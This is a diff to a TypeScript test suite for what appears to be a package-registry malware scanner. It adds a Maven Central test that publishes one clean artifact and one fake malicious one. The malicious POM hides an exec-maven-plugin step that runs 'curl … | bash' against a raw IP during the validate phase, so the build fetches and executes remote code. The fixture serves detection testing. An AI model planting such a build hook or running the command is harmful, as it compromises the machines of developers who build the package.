@@ -146,7 +146,8 @@ describe('beagle index (embedded): PyPI changelog -> scan of the sdist', () => {
         version: '0.3.0',
         at: now - 20_000,
         files: {
-          'setup.py': "from setuptools import setup\nsetup(name='tidy-strings', version='0.3.0', packages=['tidy_strings'])\n",
+          'setup.py':
+            "from setuptools import setup\nsetup(name='tidy-strings', version='0.3.0', packages=['tidy_strings'])\n",
           'tidy_strings/__init__.py': 'def tidy(s):\n    return " ".join(s.split())\n',
         },
       });
@@ -191,6 +192,67 @@ setup(name='reqeusts-toolbelt', version='1.0.1', cmdclass={'install': Post})
       expect(bad.latencyMs).toBeGreaterThanOrEqual(10_000);
       const good = await getJson(`${running.url}/api/v1/packages/pypi/tidy-strings/0.3.0`);
       expect(good.verdict).toBe('clean');
+    } finally {
+      await running?.stop();
+      await reg.stop();
+      tmp.cleanup();
+    }
+  });
+});
+
+describe('beagle index (embedded): Maven Central listing -> scan of POM + jar', () => {
+  it('scans new Maven artifacts from the listing and stores their verdicts', async () => {
+    const reg = await new FakeRegistries().start();
+    const tmp = tempDir();
+    let running: RunningIndex | undefined;
+    const pom = (g: string, a: string, v: string, build = '') =>
+      `<?xml version="1.0"?><project xmlns="http://maven.apache.org/POM/4.0.0"><modelVersion>4.0.0</modelVersion><groupId>${g}</groupId><artifactId>${a}</artifactId><version>${v}</version><packaging>jar</packaging>${build}</project>`;
+    try {
+      const now = Date.now();
+      reg.publishMaven({
+        g: 'com.example',
+        a: 'strings',
+        v: '1.0.0',
+        at: now - 20_000,
+        pom: pom('com.example', 'strings', '1.0.0'),
+        jarFiles: {
+          'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0\n',
+          'strings.properties': 'greeting=hello\n',
+        },
+      });
+      reg.publishMaven({
+        g: 'io.github.badactor',
+        a: 'spring-utils',
+        v: '2.0.0',
+        at: now - 10_000,
+        pom: pom(
+          'io.github.badactor',
+          'spring-utils',
+          '2.0.0',
+          `<build><plugins><plugin><groupId>org.codehaus.mojo</groupId><artifactId>exec-maven-plugin</artifactId><version>3.1.0</version><executions><execution><phase>validate</phase><goals><goal>exec</goal></goals><configuration><executable>bash</executable><arguments><argument>-c</argument><argument>curl -s http://45.61.160.14:1224/pdown | bash</argument></arguments></configuration></execution></executions></plugin></plugins></build>`,
+        ),
+        jarFiles: { 'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0\n' },
+      });
+      const config = testConfig(reg, `sqlite:${tmp.dir}/index.db`);
+      config.feeds.npm.enabled = false;
+      config.feeds.maven.enabled = true;
+      config.feeds.maven.since = String(now - 60_000);
+      config.registries.maven = `${reg.url}/maven2/`;
+      running = await startIndex(config, { watch: true, work: true, serve: true });
+      await waitFor(async () => {
+        const c = await running!.backend.queue.counts();
+        return c.done + c.parked === 2 || undefined;
+      });
+      const jobs = await running.backend.store.jobs({ limit: 10, offset: 0 });
+      expect(jobs.map((j) => `${j.name}@${j.version}:${j.state}`).sort()).toEqual([
+        'com.example:strings@1.0.0:done',
+        'io.github.badactor:spring-utils@2.0.0:done',
+      ]);
+      const good = await getJson(`${running.url}/api/v1/packages/maven/com.example:strings/1.0.0`);
+      expect(good.verdict).toBe('clean');
+      const bad = await getJson(`${running.url}/api/v1/packages/maven/io.github.badactor:spring-utils/2.0.0`);
+      expect(['malicious', 'suspicious']).toContain(bad.verdict);
+      expect(bad.digest).toMatch(/^sha1:/);
     } finally {
       await running?.stop();
       await reg.stop();
